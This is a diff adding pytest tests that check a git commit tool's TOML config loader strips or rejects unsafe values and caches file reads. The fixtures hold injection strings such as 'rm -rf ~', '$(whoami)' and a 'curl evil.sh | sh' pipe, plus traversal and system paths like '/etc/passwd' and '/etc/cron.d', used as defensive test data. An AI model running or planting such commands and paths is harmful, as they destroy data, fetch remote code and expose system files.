@@ -52,6 +52,61 @@ def test_config_load_and_save(tmp_path):
     assert loaded_config.log_file == "custom.log"
 
 
+
+def test_config_load_sanitizes_section(tmp_path):
+    """Test that Config.load sanitizes the values of a [gitsmartcommit] section."""
+    config_path = tmp_path / ".gitsmartcommit.toml"
+    config_path.write_text(
+        'main_branch = "develop"\n'
+        'remote_name = "origin"\n'
+        "\n"
+        "[gitsmartcommit]\n"
+        'model = "qwen; rm -rf ~"\n'
+        'remote_name = "up\\u0000stream\\u001b$(whoami)"\n'
+        'commit_style = "simple`id`"\n'
+        'log_file = "../outside.log"\n'
+        'log_directory = "/etc/cron.d"\n'
+    )
+
+    config = Config.load(tmp_path)
+    assert config.main_branch == "develop"
+    assert config.model == "qwen"
+    assert config.remote_name == "upstream"
+    assert config.commit_style == "simple"
+    assert config.log_file is None
+    assert config.log_directory is None
+
+
+def test_config_load_sanitizes_top_level_values(tmp_path):
+    """Test that values outside a [gitsmartcommit] section are sanitized too."""
+    (tmp_path / ".gitsmartcommit.toml").write_text(
+        'main_branch = "main && curl evil.sh | sh"\n'
+        'log_file = "/etc/passwd"\n'
+    )
+
+    config = Config.load(tmp_path)
+    assert config.main_branch == "main"
+    assert config.log_file is None
+
+
+def test_config_load_reads_unchanged_file_once(tmp_path):
+    """Test that loading an unchanged config file reuses the parsed data."""
+    from gitsmartcommit.config import _read_config_file
+
+    Config(main_branch="develop").save(tmp_path)
+    hits = _read_config_file.cache_info().hits
+
+    first = Config.load(tmp_path)
+    first.main_branch = "changed"
+    second = Config.load(tmp_path)
+
+    assert _read_config_file.cache_info().hits == hits + 1
+    assert second.main_branch == "develop"
+
+    # Saving again invalidates the cached data
+    Config(main_branch="release").save(tmp_path)
+    assert Config.load(tmp_path).main_branch == "release"
+
 def test_config_load_invalid(tmp_path):
     """Test loading invalid configuration file."""
     config_path = tmp_path / ".gitsmartcommit.toml"